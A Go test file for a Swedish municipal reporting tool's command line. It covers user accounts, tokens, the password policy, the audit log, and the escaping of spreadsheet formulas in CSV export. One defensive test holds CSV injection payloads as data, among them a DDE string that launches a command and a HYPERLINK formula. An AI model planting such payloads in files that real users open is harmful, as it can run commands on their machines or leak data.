package main

import (
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/tertial/tertial"
	"github.com/tertial/tertial/auth"
	"github.com/tertial/tertial/demo"
	"github.com/tertial/tertial/store"
	"github.com/tertial/tertial/store/storetest"
)

// TestUserTokenAudit: accounts are added with a password from standard input and listed;
// a token is printed once, alone, and works; an edit shows in tertial audit.
func TestUserTokenAudit(t *testing.T) {
	for _, d := range []store.Dialect{store.SQLite, store.Postgres} {
		t.Run(string(d), func(t *testing.T) {
			db := storetest.URL(t, d)
			if code, _, stderr := runCmd(t, "import", writeFile(t, "demo.yaml", demo.Bytes()), "--db", db); code != 0 {
				t.Fatal(stderr)
			}
			stdin = strings.NewReader("hemligt-lösenord\n")
			code, out, stderr := runCmd(t, "user", "add", "anna", "--role", "reporter", "--unit", "ks", "--password-stdin", "--db", db)
			if code != 0 || !strings.Contains(out, "anna") {
				t.Fatalf("user add: %d %s", code, stderr)
			}
			if code, _, stderr := runCmd(t, "user", "add", "bert", "--role", "reporter", "--db", db); code != 2 || !strings.Contains(stderr, "--password-stdin") {
				t.Errorf("without --password-stdin: %d %q", code, stderr)
			}
			stdin = strings.NewReader("ett långt lösenord\n")
			if code, _, stderr := runCmd(t, "user", "add", "bert", "--role", "boss", "--password-stdin", "--db", db); code != 1 || !strings.Contains(stderr, "okänd roll") {
				t.Errorf("bad role: %d %q", code, stderr)
			}
			code, out, _ = runCmd(t, "user", "list", "--db", db)
			rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
			if code != 0 || err != nil || len(rows) != 2 || rows[1][0] != "anna" || rows[1][1] != "reporter" || rows[1][2] != "0126" || rows[1][3] != "ks" {
				t.Errorf("user list: %v %v", rows, err)
			}

			sdb, err := store.Open(context.Background(), db)
			if err != nil {
				t.Fatal(err)
			}
			defer sdb.Close()
			_, hash, err := sdb.UserWithPassword(context.Background(), "anna")
			if err != nil || !auth.CheckPassword(hash, "hemligt-lösenord") {
				t.Errorf("stored password does not check: %v", err)
			}

			code, out, stderr = runCmd(t, "token", "create", "--user", "anna", "--db", db)
			token := strings.TrimSpace(out)
			if code != 0 || strings.Count(out, "\n") != 1 || len(token) < 40 || !strings.Contains(stderr, "tertial token revoke") {
				t.Fatalf("token create: %d %q %q", code, out, stderr)
			}
			u, err := sdb.TokenUser(context.Background(), auth.HashToken(token))
			if err != nil || u.Name != "anna" {
				t.Errorf("token does not work: %v", err)
			}
			id := strings.Fields(strings.TrimPrefix(stderr, "Token "))[0]
			if code, _, stderr := runCmd(t, "token", "revoke", id, "--db", db); code != 0 {
				t.Errorf("revoke %s: %s", id, stderr)
			}
			if _, err := sdb.TokenUser(context.Background(), auth.HashToken(token)); tertial.ErrorCode(err) != tertial.EUNAUTHORIZED {
				t.Errorf("revoked token still works: %v", err)
			}

			if _, err := sdb.SaveText(context.Background(), store.Edit{Actor: "anna", Period: store.PeriodRef{Municipality: "0126", Unit: "ks", Period: "2021-08"}, Version: 1}, "lokaler", "Ny text."); err != nil {
				t.Fatal(err)
			}
			code, out, _ = runCmd(t, "audit", "--db", db)
			rows, err = csv.NewReader(strings.NewReader(out)).ReadAll()
			if code != 0 || err != nil {
				t.Fatalf("audit: %d %v", code, err)
			}
			found := false
			for _, r := range rows[1:] {
				if r[2] == "anna" && r[4] == "text" && r[5] == "ks/2021-08/lokaler" && r[8] == "Ny text." {
					found = true
				}
			}
			if !found || rows[0][0] != "id" {
				t.Errorf("the edit is not in the audit CSV:\n%s", out)
			}
		})
	}
}

// TestUserAddRefusesToGuess: in a database with two municipalities an account without
// --municipality is refused, not created with none (issue 12, F4: such an account could
// edit both); with --municipality it is created in that one, whose unit it must name.
func TestUserAddRefusesToGuess(t *testing.T) {
	for _, d := range []store.Dialect{store.SQLite, store.Postgres} {
		t.Run(string(d), func(t *testing.T) {
			db := storetest.URL(t, d)
			for _, f := range []string{writeFile(t, "demo.yaml", demo.Bytes()), filepath.Join("..", "..", "testdata", "ekby.yaml")} {
				if code, _, stderr := runCmd(t, "import", f, "--db", db); code != 0 {
					t.Fatal(stderr)
				}
			}
			for _, role := range []string{"reporter", "controller", "reader"} {
				stdin = strings.NewReader("ett långt lösenord\n")
				code, _, stderr := runCmd(t, "user", "add", "kf-"+role, "--role", role, "--unit", "kf", "--password-stdin", "--db", db)
				if code != 2 || !strings.Contains(stderr, "--municipality") || !strings.Contains(stderr, "0126") || !strings.Contains(stderr, "9901") {
					t.Errorf("%s without --municipality: %d %q", role, code, stderr)
				}
			}
			stdin = strings.NewReader("ett långt lösenord\n")
			if code, _, stderr := runCmd(t, "user", "add", "ekby-kf", "--role", "controller", "--unit", "kf", "--municipality", "9901", "--password-stdin", "--db", db); code != 0 {
				t.Fatalf("with --municipality: %d %s", code, stderr)
			}
			stdin = strings.NewReader("ett långt lösenord\n")
			if code, _, stderr := runCmd(t, "user", "add", "ekby-ks", "--role", "reporter", "--unit", "ks", "--municipality", "9901", "--password-stdin", "--db", db); code != 1 || !strings.Contains(stderr, "ingen enhet") {
				t.Errorf("a unit of another municipality: %d %q", code, stderr)
			}
			stdin = strings.NewReader("ett långt lösenord\n")
			if code, out, stderr := runCmd(t, "user", "add", "root", "--role", "admin", "--password-stdin", "--db", db); code != 0 || !strings.Contains(out, "systemadministratör") {
				t.Errorf("a system administrator: %d %q %q", code, out, stderr)
			}
			_, out, _ := runCmd(t, "user", "list", "--db", db)
			rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
			if err != nil || len(rows) != 3 || rows[1][0] != "ekby-kf" || rows[1][2] != "9901" || rows[2][0] != "root" || rows[2][2] != "" {
				t.Errorf("user list: %v %v", rows, err)
			}
		})
	}
}

// TestUserPasswordPolicy: user add and set-password refuse a short or common password
// with a message in Swedish and change nothing (issue 12, F13: a 4-character password
// was accepted).
func TestUserPasswordPolicy(t *testing.T) {
	db := storetest.URL(t, store.SQLite)
	if code, _, stderr := runCmd(t, "import", writeFile(t, "demo.yaml", demo.Bytes()), "--db", db); code != 0 {
		t.Fatal(stderr)
	}
	for _, c := range []struct{ password, want string }{
		{"x1234", "för kort"},
		{"demo", "för kort"},
		{"Unbelievable", "vanligaste lösenorden"},
		{"password1234", "vanligaste lösenorden"},
		{strings.Repeat("a", 129), "för långt"},
	} {
		stdin = strings.NewReader(c.password + "\n")
		code, _, stderr := runCmd(t, "user", "add", "anna", "--role", "reader", "--password-stdin", "--db", db)
		if code != 1 || !strings.Contains(stderr, c.want) {
			t.Errorf("user add with %q: %d %q, want %q", c.password, code, stderr, c.want)
		}
	}
	if _, out, _ := runCmd(t, "user", "list", "--db", db); strings.Contains(out, "anna") {
		t.Errorf("a refused password created the account:\n%s", out)
	}
	stdin = strings.NewReader("en mening som lösenord\n")
	if code, _, stderr := runCmd(t, "user", "add", "anna", "--role", "reader", "--password-stdin", "--db", db); code != 0 {
		t.Fatal(stderr)
	}
	stdin = strings.NewReader("x1234\n")
	if code, _, stderr := runCmd(t, "user", "set-password", "anna", "--password-stdin", "--db", db); code != 1 || !strings.Contains(stderr, "för kort") {
		t.Errorf("set-password with a short password: %d %q", code, stderr)
	}
	sdb, err := store.Open(context.Background(), db)
	if err != nil {
		t.Fatal(err)
	}
	defer sdb.Close()
	if _, hash, _ := sdb.UserWithPassword(context.Background(), "anna"); !auth.CheckPassword(hash, "en mening som lösenord") {
		t.Error("a refused set-password changed the password")
	}
}

// TestUserAdministration: disable, enable, set-role, set-password and sessions-end by
// exact name, each in the audit CSV; a disabled account's session and token stop working
// at once (issue 12, F13).
func TestUserAdministration(t *testing.T) {
	for _, d := range []store.Dialect{store.SQLite, store.Postgres} {
		t.Run(string(d), func(t *testing.T) {
			db := storetest.URL(t, d)
			if code, _, stderr := runCmd(t, "import", writeFile(t, "demo.yaml", demo.Bytes()), "--db", db); code != 0 {
				t.Fatal(stderr)
			}
			stdin = strings.NewReader("första lösenordet\n")
			if code, _, stderr := runCmd(t, "user", "add", "anna", "--role", "reporter", "--unit", "ks", "--password-stdin", "--db", db); code != 0 {
				t.Fatal(stderr)
			}
			sdb, err := store.Open(context.Background(), db)
			if err != nil {
				t.Fatal(err)
			}
			defer sdb.Close()
			ctx := context.Background()
			newSession := func(s string) {
				t.Helper()
				if err := sdb.CreateSession(ctx, s, "anna", time.Now().Add(time.Hour)); err != nil {
					t.Fatal(err)
				}
			}
			works := func(s string) bool {
				_, err := sdb.SessionUser(ctx, s, 0)
				return err == nil
			}
			newSession("s1")
			_, out, stderr := runCmd(t, "token", "create", "--user", "anna", "--db", db)
			token := strings.TrimSpace(out)
			if token == "" {
				t.Fatal(stderr)
			}

			if code, _, stderr := runCmd(t, "user", "disable", "ann", "--db", db); code != 1 || !strings.Contains(stderr, "ingen användare") {
				t.Errorf("a name is exact: %d %q", code, stderr)
			}
			if code, _, stderr := runCmd(t, "user", "disable", "anna", "--db", db); code != 0 {
				t.Fatal(stderr)
			}
			if works("s1") {
				t.Error("the session of a disabled account works")
			}
			if _, err := sdb.TokenUser(ctx, auth.HashToken(token)); tertial.ErrorCode(err) != tertial.EUNAUTHORIZED {
				t.Errorf("the token of a disabled account: %v", err)
			}
			if code, _, stderr := runCmd(t, "user", "enable", "anna", "--db", db); code != 0 {
				t.Fatal(stderr)
			}
			if _, err := sdb.TokenUser(ctx, auth.HashToken(token)); err != nil {
				t.Errorf("the token after enable: %v", err)
			}

			if code, _, stderr := runCmd(t, "user", "set-role", "anna", "--role", "reporter", "--db", db); code != 1 || !strings.Contains(stderr, "enhet") {
				t.Errorf("set-role reporter without a unit: %d %q", code, stderr)
			}
			if code, out, stderr := runCmd(t, "user", "set-role", "anna", "--role", "controller", "--db", db); code != 0 || !strings.Contains(out, "kommun 0126") {
				t.Fatalf("set-role: %d %q %q", code, out, stderr)
			}
			if u, err := sdb.TokenUser(ctx, auth.HashToken(token)); err != nil || u.Role != tertial.RoleController || u.Municipality != "0126" || u.Unit != "" {
				t.Errorf("after set-role: %+v %v", u, err)
			}

			newSession("s2")
			stdin = strings.NewReader("andra lösenordet\n")
			if code, _, stderr := runCmd(t, "user", "set-password", "anna", "--password-stdin", "--db", db); code != 0 {
				t.Fatal(stderr)
			}
			if _, hash, _ := sdb.UserWithPassword(ctx, "anna"); !auth.CheckPassword(hash, "andra lösenordet") {
				t.Error("set-password did not set the password")
			}
			if works("s2") {
				t.Error("a session survived set-password")
			}

			newSession("s3")
			newSession("s4")
			if code, out, stderr := runCmd(t, "user", "sessions-end", "anna", "--db", db); code != 0 || !strings.HasPrefix(out, "2 sessioner") {
				t.Errorf("sessions-end: %d %q %q", code, out, stderr)
			}
			if works("s3") || works("s4") {
				t.Error("a session survived sessions-end")
			}

			_, out, _ = runCmd(t, "audit", "--db", db)
			rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, r := range rows[1:] {
				if r[4] == "user" && r[5] == "anna" {
					got = append(got, r[2]+" "+r[6]+": "+r[7]+" → "+r[8])
				}
			}
			want := []string{
				"kommandorad role:  → reporter", "kommandorad municipality:  → 0126", "kommandorad unit:  → ks",
				"kommandorad disabled: false → true", "kommandorad sessions: 1 → 0",
				"kommandorad disabled: true → false",
				"kommandorad role: reporter → controller", "kommandorad unit: ks → ",
				"kommandorad password:  → ändrat", "kommandorad sessions: 1 → 0",
				"kommandorad sessions: 2 → 0 (avslutade)",
			}
			if strings.Join(got, "\n") != strings.Join(want, "\n") {
				t.Errorf("audit CSV for anna:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
			}
		})
	}
}

// TestAuditCSVInjection: a cell of the audit CSV that a spreadsheet would run as a
// formula starts with a single quote (issue 12, F7: a reporter's "=HYPERLINK(…)" became a
// live link in Excel); other cells are as they were.
func TestAuditCSVInjection(t *testing.T) {
	db := storetest.URL(t, store.SQLite)
	if code, _, stderr := runCmd(t, "import", writeFile(t, "demo.yaml", demo.Bytes()), "--db", db); code != 0 {
		t.Fatal(stderr)
	}
	sdb, err := store.Open(context.Background(), db)
	if err != nil {
		t.Fatal(err)
	}
	ref := store.PeriodRef{Municipality: "0126", Unit: "ks", Period: "2021-08"}
	texts := []string{
		`=HYPERLINK("https://example.org/?"&A1;"Klicka")`, "+46 8 123 45", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
		"\tflik först", "-236650000.00", "Vanlig text med = i mitten.",
	}
	version := 1
	for _, text := range texts {
		if version, err = sdb.SaveText(context.Background(), store.Edit{Actor: "rapportor", Period: ref, Version: version}, "lokaler", text); err != nil {
			t.Fatal(err)
		}
	}
	sdb.Close()
	out := filepath.Join(t.TempDir(), "audit.csv")
	if code, _, stderr := runCmd(t, "audit", "--db", db, "-o", out); code != 0 {
		t.Fatal(stderr)
	}
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(string(data))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var news []string
	for _, r := range rows[1:] {
		if r[4] == "text" && r[5] == "ks/2021-08/lokaler" {
			news = append(news, r[8])
		}
	}
	if len(news) != len(texts) {
		t.Fatalf("%d text edits in the audit CSV, want %d", len(news), len(texts))
	}
	for i, text := range texts {
		want := text
		if strings.ContainsRune("=+-@\t\r", rune(text[0])) {
			want = "'" + text
		}
		if news[i] != want {
			t.Errorf("cell %q, want %q", news[i], want)
		}
	}
	for _, r := range rows {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a cell a spreadsheet would run: %q", cell)
			}
		}
	}
}

// TestCSVSafe: the cells OWASP names, carriage return included (which no text of Tertial
// holds, but an actor or key read from an older database might).
func TestCSVSafe(t *testing.T) {
	got := csvSafe([]string{"=1+1", "+1", "-1", "@a", "\tx", "\rx", "", "a=b", "1-2", "'x"})
	want := []string{"'=1+1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "", "a=b", "1-2", "'x"}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("csvSafe = %q, want %q", got, want)
	}
}

// TestUserAddFirstAdminSaysWhereToGo: the first account of an empty database, a system
// administrator, is told where to sign in and create the municipality; a second is not,
// and the last administrator cannot be turned off from the command line either.
func TestUserAddFirstAdminSaysWhereToGo(t *testing.T) {
	db := storetest.URL(t, store.SQLite)
	stdin = strings.NewReader("ett långt lösenord\n")
	code, out, stderr := runCmd(t, "user", "add", "root", "--role", "admin", "--password-stdin", "--db", db)
	if code != 0 || !strings.Contains(out, "http://"+defaultAddr+"/logga-in") || !strings.Contains(out, "/admin/kommuner/ny") {
		t.Errorf("first admin: %d %q %q", code, out, stderr)
	}
	stdin = strings.NewReader("ett långt lösenord\n")
	if code, out, _ := runCmd(t, "user", "add", "root2", "--role", "admin", "--password-stdin", "--db", db); code != 0 || strings.Contains(out, "logga-in") {
		t.Errorf("second admin: %d %q", code, out)
	}
	if code, _, _ := runCmd(t, "user", "disable", "root2", "--db", db); code != 0 {
		t.Fatal("disabling one of two system administrators")
	}
	if code, _, stderr := runCmd(t, "user", "disable", "root", "--db", db); code != 1 || !strings.Contains(stderr, "sista aktiva systemadministratören") {
		t.Errorf("disabling the last: %d %q", code, stderr)
	}
}
